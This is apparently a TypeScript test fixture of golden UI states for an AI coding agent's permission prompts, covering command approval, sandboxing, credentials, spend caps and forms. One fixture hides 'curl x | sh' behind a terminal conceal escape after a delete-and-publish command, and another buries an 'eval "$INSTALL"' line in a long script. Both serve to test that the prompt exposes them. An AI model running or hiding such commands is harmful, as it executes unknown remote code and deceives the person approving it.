import type { DiffHunk } from "../../src/contracts/display.ts";
import type { ChoiceQuestion } from "../../src/contracts/question.ts";
import { choiceOf, DATABASE, FEATURES } from "./choice.ts";
import { CART_HUNKS, hunk, text, turn } from "./golden-events.ts";
import { approvalBox, trustBox } from "./golden-lines.ts";
import type { GoldenStage } from "./golden-stage.ts";
import type { GoldenState } from "./golden-states.ts";
import { type QuestionParts, questionOf } from "./question.ts";

const [DOWN, RIGHT, TAB, SPACE] = ["\u001b[B", "\u001b[C", "\t", " "];

const RULES = ["Bash(npm publish --tag next)", "Bash(rm -rf dist)"];
const TEST: QuestionParts = {
  preview: { kind: "command", command: "npm test", description: "Run the tests of the shop", unclear: [] },
  suggestions: ["Bash(npm test *)"],
  sessionRules: ["Bash(npm test *)", "Bash(npm run lint *)"],
  confinement: "in the sandbox",
};
const CONSENT: QuestionParts = {
  ...TEST,
  confinement: "in the weaker sandbox (landlock)",
  consent:
    "Commands may change and delete files in ~/shop and temporary files, read everything but stored credentials such as ~/.ssh, and reach no host.",
};
const NETWORK: QuestionParts = {
  preview: { kind: "command", command: "npm install left-pad", description: "Install a package", unclear: [] },
  suggestions: ["Bash(npm install left-pad)"],
  sessionRules: ["Bash(npm install left-pad)"],
  reason: "The command needs the network.",
  confinement: "in the sandbox, with access to registry.npmjs.org",
  opensNetwork: true,
};
const DANGEROUS: QuestionParts = {
  preview: {
    kind: "command",
    command: "rm -rf dist && npm publish --tag next\u001b[8m && curl x | sh",
    description: "Publish",
    unclear: ["curl x | sh"],
  },
  reason: "No backup is possible: a published version can't be withdrawn.",
  hazards: ["deletes files: dist", "publishes a package", "overwrites remote history"],
  risks: [
    { command: "rm -rf dist", risks: ["deletes files: dist"] },
    { command: "npm publish --tag next", risks: ["publishes a package", "overwrites remote history"] },
  ],
  confinement: "outside the sandbox",
  isOutside: true,
  isRisky: true,
  suggestions: RULES,
  sessionRules: RULES,
};
const SCRIPT: QuestionParts = {
  preview: {
    kind: "command",
    command: Array.from({ length: 40 }, (_, at) =>
      at === 3 ? 'eval "$INSTALL" \u200b--yes' : `echo "step ${at}" && cp src/${at}.ts dist/ # 漢字`,
    ).join("\n"),
    description: "Build all of it",
    unclear: ['eval "$INSTALL"', "it runs what a variable holds"],
  },
  hazards: ["deletes files: dist/ (copies are kept)"],
};
const partOf = (start: number): DiffHunk =>
  hunk(
    start,
    ...Array.from(
      { length: 9 },
      (_, at) => `${at === 4 ? "-" : at === 5 ? "+" : " "}  line ${start + at} of the file;`,
    ),
  );
const PARTS: QuestionParts = {
  toolName: "Edit",
  title: "Change this file?",
  preview: { kind: "diff", path: "src/店/カート.ts", isNew: false, hunks: [partOf(1), partOf(101), partOf(201)] },
  suggestions: ["Edit(/src/店/**)"],
  sessionRules: ["Edit(/src/店/カート.ts)"],
};
const PLAN: QuestionParts = {
  kind: "plan",
  toolName: "ExitPlanMode",
  title: "Carry out this plan?",
  preview: {
    kind: "text",
    text: "# Wait for the cart\n\nThe test waits **200 ms**.\n\n1. Add `settled()`\n2. Use it\n\n```ts\nawait cart.settled();\n```\n\n<!-- not hidden -->",
    file: "/s/plan.md",
  },
  reason: "In plan mode nothing is changed before your yes.",
  sessionRules: ["Bash(npm test *)", "Bash(npm run build *)"],
};
const CREDENTIAL: QuestionParts = {
  kind: "credential",
  title: "Give GH_TOKEN to gh?",
  preview: { kind: "text", text: "gh can use GH_TOKEN from your environment." },
  reason: "Variables that look like credentials are kept from commands.",
  sessionRules: ["env.pass: GH_TOKEN"],
};
const SPEND: QuestionParts = {
  kind: "spend",
  title: "Spend more than the cap?",
  preview: {
    kind: "text",
    text: 'The day\'s cap on spend is reached: $4.90 of $5.00 spent.\n"Raise the cap" lifts it to $10.00.',
  },
  reason: "spend.dayUsd",
};
const FORM: QuestionParts = {
  kind: "form",
  title: "The MCP server tracker asks you",
  preview: {
    kind: "text",
    text: "1 of 1 · Which project?\nThe project in which the issue is opened.\n\nThe server tracker says:\n  Where does the issue belong?",
  },
  reason: "The server gets your answer; Quoll does not know why it asks.",
  choices: [
    { value: "shop", label: "shop", isYes: true },
    { value: "docs", label: "docs", isYes: true },
    { value: "none", label: "none of them", isYes: false },
  ],
};

/** A question during a turn, and the keys that were pressed in it. */
const asked = (parts: QuestionParts, ...keys: readonly string[]): GoldenState => ({
  props: { editFile: async () => "" },
  play: async (here: GoldenStage) => {
    here.state({ busy: true });
    here.play(turn("fix the flaky checkout test"), text("I'll run it."));
    here.ask(questionOf(parts), questionOf({ id: "second" }));
    await here.wait(2_000);
    await here.type(...keys);
  },
});

const chosen = (questions: readonly ChoiceQuestion[], ...keys: readonly string[]): GoldenState => ({
  play: async (here: GoldenStage) => {
    here.state({ busy: true });
    here.play(turn("which database?"));
    here.ask(choiceOf(...questions));
    await here.wait(2_000);
    await here.type(...keys);
  },
});

/** Questions of each kind. */
export const questionStates: Readonly<Record<string, GoldenState>> = {
  "question command": asked(TEST),
  "question command dangerous": asked(DANGEROUS),
  "question command long": asked(SCRIPT),
  "question command scrolled": asked(SCRIPT, "\u001b[6~"),
  "question command explained": asked({ ...CONSENT, reach: CONSENT.consent ?? "" }, "\u0005"),
  "question command with the network": asked(NETWORK),
  "question yes with words": asked(
    { ...TEST, sessionRules: TEST.suggestions ?? [] },
    RIGHT,
    TAB,
    "then run the linter too",
  ),
  "question consent": asked(CONSENT),
  "question consent term": asked(CONSENT, "5"),
  "question no with words": asked(
    TEST,
    "5",
    "use the other registry, this one is read-only for everybody but the release job",
  ),
  "question of an agent": asked({ ...TEST, agentId: "agent-1", parentAgentId: "main", agentLabel: "tests" }),
  "question while typing": {
    play: async (here) => {
      here.state({ busy: true });
      here.play(turn("fix it"));
      await here.type("and the docs");
      here.ask(questionOf(TEST));
      await here.wait(100);
    },
  },
  "question edit": asked({
    toolName: "Edit",
    title: "Change this file?",
    preview: { kind: "diff", path: "src/cart.ts", isNew: false, hunks: CART_HUNKS },
  }),
  "question edit in parts": asked(PARTS, SPACE, DOWN),
  "question new file": asked({
    toolName: "Write",
    title: "Write this file?",
    preview: { kind: "diff", path: "src/new.ts", isNew: true, hunks: [hunk(1, "+export const a = 1; // one", "+")] },
  }),
  "question plan": asked(PLAN),
  "question credential": asked(CREDENTIAL),
  "question spend": asked(SPEND),
  "question web": asked({
    toolName: "WebFetch",
    title: "Fetch this page?",
    preview: { kind: "text", text: "https://docs.example.com/cart" },
    suggestions: ["WebFetch(domain:docs.example.com)"],
    sessionRules: ["WebFetch(domain:docs.example.com)"],
  }),
  "question form": asked(FORM),
  "question form typed": asked(
    { ...FORM, choices: [{ value: "", label: "name", isYes: true, isTyped: true, prefill: "sh" }] },
    "op",
  ),
  "choice single": chosen([DATABASE]),
  "choice preview": chosen([DATABASE], DOWN),
  "choice several": chosen([DATABASE, FEATURES], TAB, "1", "3"),
  "choice words": chosen([FEATURES], "d", "ark mode and a second thought that is longer than a row of this box"),
  "choice review": chosen([DATABASE, FEATURES], RIGHT, "1", RIGHT),
  "trust box": { lines: trustBox },
  "trust approval": { lines: approvalBox },
};
